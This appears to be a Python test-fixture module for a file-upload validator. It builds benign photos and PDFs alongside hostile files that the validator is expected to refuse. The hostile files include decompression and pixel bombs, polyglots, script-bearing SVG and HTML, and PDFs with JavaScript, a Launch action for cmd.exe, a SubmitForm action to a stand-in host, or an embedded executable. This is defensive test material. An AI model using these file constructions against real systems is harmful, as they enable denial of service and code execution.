"""Files as somebody sends them: what a phone makes, and what an attacker does. Each by the name of what it tries."""

import io
import struct
import zlib
from collections.abc import Callable

from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from operations.books.documents import LARGEST

CANARY = b"RAHASIA-4711"
SOUTH, EAST = ("S", (8.0, 12.0, 33.0)), ("E", (114.0, 22.0, 10.0))
BANYUWANGI = "-8.209167,114.369444"
GPS = 0x8825


def exif(camera: str = CANARY.decode()) -> Image.Exif:
    made = Image.Exif()
    made[0x010F] = camera
    made.get_ifd(GPS).update({1: SOUTH[0], 2: SOUTH[1], 3: EAST[0], 4: EAST[1]})
    return made


def photo(form: str = "JPEG", size: tuple[int, int] = (64, 48), **more: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(out, form, **more)
    return out.getvalue()


def photo_with_place(form: str = "JPEG") -> bytes:
    return photo(form, exif=exif())


def noted_png() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", CANARY.decode())
    return photo("PNG", pnginfo=notes)


def pdf(picture: bytes | None = None) -> bytes:
    """One page with a photo in it, as an app that scans makes it; the photo may bring its EXIF."""
    out = io.BytesIO()
    Image.open(io.BytesIO(picture or photo_with_place())).save(out, "PDF", title=CANARY.decode())
    writer = PdfWriter(io.BytesIO(out.getvalue()))
    if picture is None:
        held = next(o for o in writer._objects if o and o.get("/Subtype") == "/Image")
        held._data = photo_with_place()
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def scripted_pdf() -> bytes:
    return acting_pdf({"/S": "/JavaScript", "/JS": "app.alert(1)"})


def carrying_pdf() -> bytes:
    writer = PdfWriter(io.BytesIO(pdf()))
    writer.add_attachment("daftar.exe", b"MZ")
    return written(writer)


def acting_pdf(action: dict[str, str]) -> bytes:
    """It acts when its page is opened."""
    writer = PdfWriter(io.BytesIO(pdf()))
    acts = DictionaryObject(
        {NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v) for k, v in action.items()}
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): acts})
    return written(writer)


def locked_pdf() -> bytes:
    writer = PdfWriter(io.BytesIO(pdf()))
    writer.encrypt("x", algorithm="RC4-128")
    return written(writer)


def long_pdf(pages: int = 21) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(100, 100)
    return written(writer)


def swelling_pdf() -> bytes:
    """A page of 101 megabytes of nothing, packed."""
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    stream = DecodedStreamObject()
    stream.set_data(b"")
    packed = stream.flate_encode()
    packed._data = zlib.compress(bytes(101_000_000), 1)
    page[NameObject("/Contents")] = writer._add_object(packed)
    return written(writer)


def pixel_bomb() -> bytes:
    out = io.BytesIO()
    Image.new("1", (7_000, 6_000)).save(out, "PNG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def swelling_png() -> bytes:
    """A small picture with a comment that unpacks to 70 megabytes."""
    small = photo("PNG", (8, 8))
    comment = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(70_000_000), 1))
    return small[:33] + comment + small[33:]


def lying_png() -> bytes:
    """It says 60.000 x 60.000 and holds one row."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(bytes(180_001)))
        + _chunk(b"IEND", b"")
    )


SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
KEPT: dict[str, Callable[[], bytes]] = {
    "photo.jpg": photo_with_place,
    "photo.png": lambda: photo_with_place("PNG"),
    "comment in a png": noted_png,
    "jpeg called .png": photo_with_place,
    "photo.php.jpg": photo_with_place,
    "jpeg and zip in one": lambda: photo_with_place() + b"PK\x03\x04" + CANARY,
    "png and page in one": lambda: photo("PNG") + b"<script>" + CANARY + b"</script>",
    "nota.pdf": pdf,
    "pdf and page in one": lambda: pdf() + b"\n<script>" + CANARY + b"</script>",
}
REFUSED: dict[str, Callable[[], bytes]] = {
    "nothing but the name .jpg": lambda: b"halo " + CANARY,
    "page called .jpg": lambda: b"<!doctype html><script>alert(1)</script>",
    "program called .pdf": lambda: b"MZ\x90\x00" + bytes(200),
    "drawing": lambda: SVG,
    "gif": lambda: photo("GIF"),
    "webp": lambda: photo("WEBP"),
    "tiff": lambda: photo("TIFF"),
    "jpeg cut off": lambda: photo()[:300],
    "pixel bomb": pixel_bomb,
    "picture that lies about its size": lying_png,
    "comment bomb": swelling_png,
    "one byte more than 20 MB": lambda: photo().ljust(LARGEST + 1, b"\0"),
    "pdf after other bytes": lambda: b"GIF89a" + pdf(),
    "pdf with script": scripted_pdf,
    "pdf with a file in it": carrying_pdf,
    "pdf that starts programs": lambda: acting_pdf({"/S": "/Launch", "/F": "cmd.exe"}),
    "pdf that sends": lambda: acting_pdf({"/S": "/SubmitForm", "/F": "http://lain.test"}),
    "pdf that is locked": locked_pdf,
    "pdf of 21 pages": long_pdf,
    "pdf bomb": swelling_pdf,
    "pdf cut off": lambda: pdf()[:300],
    "zip called .pdf": lambda: b"PK\x03\x04" + pdf(),
}


def pages_of(content: bytes) -> int:
    return len(PdfReader(io.BytesIO(content), strict=True).pages)
